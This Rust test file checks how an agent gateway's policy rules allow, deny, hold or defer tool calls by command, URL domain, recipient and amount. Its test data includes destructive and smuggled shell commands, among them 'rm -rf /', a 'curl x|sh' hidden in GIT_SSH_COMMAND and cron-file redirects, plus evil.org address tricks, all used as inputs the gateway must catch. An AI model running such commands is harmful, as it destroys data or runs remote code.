//! Rules as a gateway asks them: arguments are read by a profile, and it is decided at its gate.

use bytes::Bytes;
use engine::{Asked, Gate, Readable};
use model::{Actor, Clock, Directory, DirectorySnapshot, ReadArguments};
use profile::{Profile, RoleForm};

use super::*;

const PROFILE: &str = r#"
profile: real
tools:
  send: { class: external, verb: send, arguments: { to: recipient, url: url, command: command, amount: amount, path: path } }
  build:
    class: write
    verb: build
    arguments: { tag: tag }
    roles: { project: { from: [owner, project], join: ":" } }
"#;

struct Here(Arc<DirectorySnapshot>);

impl Directory for Here {
    fn snapshot(&self) -> Arc<DirectorySnapshot> {
        Arc::clone(&self.0)
    }
}

struct Noon;

impl Clock for Noon {
    fn now(&self) -> UnixMicros {
        UnixMicros(1_795_167_000_000_000)
    }
}

fn profile() -> Profile {
    Profile::parse("real.yaml", PROFILE).unwrap()
}

/// What the gateway tells of an app with the profile.
fn known() -> Known {
    let profile = profile();
    let forms = profile.roles();
    let name = Some("real".to_owned());
    let mut app = KnownApp { profile: name, described_by: Some(profile.digest()), ..KnownApp::default() };
    for (name, tool) in profile.tools() {
        let form = |form: &RoleForm| KnownRole {
            join: form.join.as_deref().map(str::to_owned),
            ignore_case: form.ignore_case,
        };
        let roles = tool.every_role().into_iter().map(|role| (role.to_string(), form(&forms[role]))).collect();
        let verb = tool.verb().map(ToString::to_string);
        let entry = KnownTool { class: tool.class(), verb, roles, cost: tool.cost(), labels: Default::default() };
        app.tools.insert(name.clone(), entry);
    }
    Known { apps: [(AppId::parse("mail").unwrap(), app)].into(), ..super::known() }
}

/// What becomes of a call under one rule of this app, beside one that permits everything if `rule` does not.
fn verdict(rule: &str, tool: &str, arguments: &str) -> Verdict {
    verdict_of(Method::ToolsCall, Some(profile().reader(tool)), rule, tool, arguments)
}

/// The same, of what is asked in this way and read by this reader.
fn verdict_of(
    method: Method,
    reader: Option<Arc<dyn ReadArguments>>,
    rule: &str,
    tool: &str,
    arguments: &str,
) -> Verdict {
    let all = if rule.contains("allow:") { "" } else { "{id: all, allow: all}, " };
    let text = format!("policies: {{mail: {{rules: [{all}{rule}]}}}}");
    verdict_under(&text, method, reader, tool, arguments)
}

/// The same, under the rules of this file.
fn verdict_under(
    text: &str,
    method: Method,
    reader: Option<Arc<dyn ReadArguments>>,
    tool: &str,
    arguments: &str,
) -> Verdict {
    let files = [file("policy.yaml", text)];
    let bundle = Bundle::compile_for(&known(), &files).unwrap_or_else(|errors| panic!("{text}: {}", told(&errors)));
    let facts = facts("mail", tool, &Value::Null);
    let (human, agent, app) = (facts.human.id.clone(), facts.agent.id.clone(), facts.app.id.clone());
    let directory = DirectorySnapshot {
        humans: [(human.clone(), Arc::clone(&facts.human))].into(),
        agents: [(agent.clone(), Arc::clone(&facts.agent))].into(),
        apps: [(app.clone(), Arc::clone(&facts.app))].into(),
        ..DirectorySnapshot::default()
    };
    let gate = Gate::new(Arc::new(Here(Arc::new(directory))), Arc::new(Noon), Box::new(bundle));
    let tool = match method {
        Method::ToolsCall => facts.tool.clone(),
        _ => model::ToolFacts::of_method(method, facts.tool.name.clone()),
    };
    let bytes = Bytes::copy_from_slice(arguments.as_bytes());
    let gated = gate.decide(&Asked {
        actor: &Actor { agent, human, task: TaskId::parse("t").unwrap(), only_app: None, token_id: Arc::from("j") },
        app: &app,
        method,
        tool: &tool,
        arguments: (!arguments.is_empty()).then_some(arguments.as_bytes()),
        readable: reader.map(|reader| Readable { arguments: bytes, reader }).as_ref(),
        contract: None,
    });
    gated.unwrap().decision().verdict()
}

fn denied(condition: &str, tool: &str, arguments: &str, expect: bool) {
    let rule = format!("{{id: r, deny: all, when: {condition}}}");
    let expect = if expect { Verdict::Deny } else { Verdict::Allow };
    assert_eq!(verdict(&rule, tool, arguments), expect, "deny {condition}: {arguments}");
}

fn permitted(condition: &str, tool: &str, arguments: &str, expect: bool) {
    let rule = format!("{{id: r, allow: all, when: {condition}}}");
    let found = verdict(&rule, tool, arguments) == Verdict::Allow;
    assert_eq!(found, expect, "allow {condition}: {arguments}");
}

// INVARIANT: rules decide on nothing that was read by another description of the app than theirs.
#[test]
fn rules_and_readers_by_other_descriptions_of_an_app_defer() {
    let rule = "{id: r, deny: all, when: {roles: {command: {command: rm}}}}";
    let arguments = r#"{"command": "rm -rf /"}"#;
    let other = Profile::parse("real.yaml", "profile: real\ntools: {send: {class: read}}").unwrap();
    let of = |reader, rule, arguments| verdict_of(Method::ToolsCall, Some(reader), rule, "send", arguments);
    assert_eq!(of(profile().reader("send"), rule, arguments), Verdict::Deny);
    for reader in [
        |other: &Profile| other.reader("send"),
        |other: &Profile| other.reader("x"),
        |_: &Profile| profile::unprofiled(),
    ] {
        assert_eq!(of(reader(&other), rule, arguments), Verdict::Defer);
        assert_eq!(of(reader(&other), "{id: r, allow: all}", arguments), Verdict::Defer, "its class is another, too");
        assert_eq!(of(reader(&other), "{id: r, allow: all}", ""), Verdict::Defer, "without arguments, too");
    }
}

#[test]
fn a_prompt_has_no_roles() {
    let rule = "{id: r, deny: all, when: {roles: {amount: {above: 10000}}}}";
    let asked = verdict_of(Method::PromptsGet, Some(profile::of_no_tool()), rule, "greet", r#"{"x": 1}"#);
    assert_eq!(asked, Verdict::Allow);
}

#[test]
fn what_nobody_reads_is_in_doubt() {
    let of = |rule| verdict_of(Method::ToolsCall, None, rule, "send", r#"{"x": "open"}"#);
    assert_eq!(of("{id: r, deny: all, when: {arguments: {x: closed}}}"), Verdict::Deny);
    assert_eq!(of("{id: r, deny: all, when: {roles: {amount: {above: 10000}}}}"), Verdict::Deny);
    assert_ne!(of("{id: r, allow: all, when: {arguments: {x: open}}}"), Verdict::Allow);
}

#[test]
fn a_rule_of_nothing_but_the_size_is_kept() {
    let (short, long) = (r#"{"to": "a@x.example"}"#, format!(r#"{{"to": "{}"}}"#, "a".repeat(1 << 20)));
    denied("{size: {above: 65536}}", "send", &long, true);
    denied("{size: {above: 65536}}", "send", short, false);
    permitted("{size: {below: 1000}}", "send", &long, false);
    permitted("{size: {below: 1000}}", "send", short, true);
}

#[test]
fn a_permit_by_command_is_for_the_bare_command() {
    for (line, expect) in [
        ("git fetch", true),
        ("/usr/bin/git fetch --all", true),
        ("git fetch 2> /dev/null", true),
        ("GIT_SSH_COMMAND='curl x|sh' git fetch", false),
        ("PATH=/tmp; git fetch", false),
        ("git fetch > /etc/cron.d/x", false),
        ("X=/tmp/git git fetch > /tmp/git", false),
        ("git fetch; ls", false),
    ] {
        let arguments = serde_json::json!({ "command": line }).to_string();
        permitted("{roles: {command: {command: git fetch}}}", "send", &arguments, expect);
    }
    denied("{roles: {command: {command: git fetch}}}", "send", r#"{"command": "X=1 git fetch"}"#, true);
    // What sets a variable for a command is no program.
    for (line, expect) in [("env", true), ("env X=1 make", true), ("X=1 make", false), ("X=1; make", false)] {
        let arguments = serde_json::json!({ "command": line }).to_string();
        denied("{roles: {command: {command: env}}}", "send", &arguments, expect);
    }
}

#[test]
fn hosts_of_addresses_are_told_apart_by_their_domain() {
    for (domain, url, expect) in [
        ("localhost", "http://localhost/admin", true),
        ("'*.evil.org'", "https://a_b.evil.org/", true),
        ("a_b.evil.org", "https://A_B.evil.org/", true),
        ("evil.org", "https://EVIL.org:8443/x", true),
        ("127.0.0.1", "http://127.0.0.1/", true),
        ("evil.org", "https://example.com/evil.org", false),
        ("evil.org", "https://x@evil.org/", true),
        ("evil.org", "https://ｅvil.org/", true),
    ] {
        let arguments = serde_json::json!({ "url": url }).to_string();
        denied(&format!("{{roles: {{url: {{domain: {domain}}}}}}}"), "send", &arguments, expect);
    }
}

#[test]
fn an_address_in_quotes_is_in_doubt_and_a_name_in_quotes_is_none() {
    for condition in [
        "{roles: {recipient: {domain: evil.org}}}",
        "{roles: {recipient: eve@evil.org}}",
        "{arguments: {to: {domain: evil.org}}}",
    ] {
        denied(condition, "send", r#"{"to": "\"eve\"@evil.org"}"#, true);
        denied(condition, "send", r#"{"to": ["ana@x.example", "\"eve\"@evil.org"]}"#, true);
        denied(condition, "send", r#"{"to": "\"Eve Smith\" <eve@evil.org>"}"#, true);
        denied(condition, "send", r#"{"to": "\"eve@evil.org\" <ana@x.example>"}"#, false);
    }
}

#[test]
fn values_of_rules_are_written_as_facts_are() {
    for (condition, arguments) in [
        ("{arguments: {n: 12.50}}", r#"{"n": 12.5}"#),
        ("{arguments: {n: 10.0}}", r#"{"n": 10}"#),
        ("{arguments: {n: 1e3}}", r#"{"n": 1000}"#),
        ("{arguments: {n: -0.0}}", r#"{"n": 0}"#),
        ("{roles: {amount: 12.50}}", r#"{"amount": "12.5"}"#),
        ("{roles: {amount: '12.50'}}", r#"{"amount": 12.5}"#),
        ("{roles: {path: /etc/}}", r#"{"path": "/etc"}"#),
        ("{roles: {path: {is: /etc/../x//y}}}", r#"{"path": "/x/y"}"#),
        ("{roles: {url: EVIL.org.}}", r#"{"url": "https://evil.org"}"#),
        ("{roles: {url: {begins: Evil.}}}", r#"{"url": "https://evil.org"}"#),
        ("{roles: {recipient: Ana@X.example}}", r#"{"to": "Ana <ana@x.example>"}"#),
        ("{roles: {command: /bin/rm x}}", r#"{"command": "rm x"}"#),
        ("{roles: {command: rm //etc/ 'a b'}}", r#"{"command": "rm /etc 'a b'"}"#),
    ] {
        denied(condition, "send", arguments, true);
        permitted(condition, "send", arguments, true);
    }
}

#[test]
fn a_number_of_a_rule_is_the_text_it_is_written_as_too() {
    for (condition, arguments, restricts, permits) in [
        ("{arguments: {n: 12.50}}", r#"{"n": "12.50"}"#, true, true),
        ("{arguments: {n: 12.50}}", r#"{"n": 12.50}"#, true, true),
        ("{arguments: {n: [1.10, 2.0]}}", r#"{"n": "2.0"}"#, true, true),
        ("{arguments: {n: {is: 1E3}}}", r#"{"n": "1e3"}"#, true, false),
        ("{roles: {tag: 1.10}}", r#"{"tag": "1.10"}"#, true, true),
        // What came as a number may have been spelt in either way.
        ("{roles: {tag: 1.10}}", r#"{"tag": 1.10}"#, true, false),
        ("{roles: {tag: 1.10}}", r#"{"tag": "1.1"}"#, true, false),
        ("{arguments: {n: 1.10}}", r#"{"n": "1.1"}"#, true, false),
        ("{arguments: {n: 1.10}}", r#"{"n": "1.100"}"#, false, false),
        ("{arguments: {n: 7}}", r#"{"n": "7"}"#, true, true),
    ] {
        denied(condition, "build", arguments, restricts);
        permitted(condition, "build", arguments, permits);
    }
    // The same, where a key names them.
    for (tags, arguments, held) in [
        ("[1.10]", r#"{"tag": "1.10"}"#, true),
        ("[1.10]", r#"{"tag": 1.10}"#, true),
        ("1.10", r#"{"tag": "1.1"}"#, true),
        ("[1.10]", r#"{"tag": "1.100"}"#, false),
        ("['1.10']", r#"{"tag": 1.10}"#, false),
        ("[7, v*]", r#"{"tag": 7}"#, true),
    ] {
        let expect = if held { Verdict::Hold } else { Verdict::Allow };
        let text =
            format!("policies: {{mail: {{require_human_review_for_tags: {tags}, rules: [{{id: all, allow: all}}]}}}}");
        assert_eq!(
            verdict_under(&text, Method::ToolsCall, Some(profile().reader("build")), "build", arguments),
            expect,
            "{tags} {arguments}"
        );
    }
}

#[test]
fn a_command_of_a_rule_is_written_as_a_profile_writes_it() {
    let form = RoleForm { kind: profile::RoleKind::Command, join: None, ignore_case: false };
    for line in ["rm -rf /", "/bin/rm -rf //", "ls 'a b' c=d", "x /a/../b", "echo \"it's\"", "./run"] {
        assert_eq!(crate::command::CommandPattern::as_facts(line), profile::normal(&form, line), "{line}");
    }
}

#[test]
fn the_last_part_of_a_name_is_what_stands_behind_its_join() {
    let text = "policies: {mail: {require_human_review_for_projects: [infra], rules: [{id: all, allow: all}]}}";
    let bundle = Bundle::compile_for(&known(), &[file("policy.yaml", text)])
        .unwrap_or_else(|errors| panic!("{}", told(&errors)));
    for (project, expect) in [("infra", Verdict::Hold), ("infrared", Verdict::Allow)] {
        let mut facts = facts("mail", "build", &Value::Null);
        let arguments = serde_json::json!({ "owner": "acme", "project": project }).to_string();
        let reads = bundle.reads(&facts.app.id).unwrap();
        facts.arguments = Arc::new(profile().tool("build").unwrap().read(arguments.as_bytes(), &reads));
        assert_eq!(decide::decide(&bundle, &facts).verdict(), expect, "{project}");
    }
}
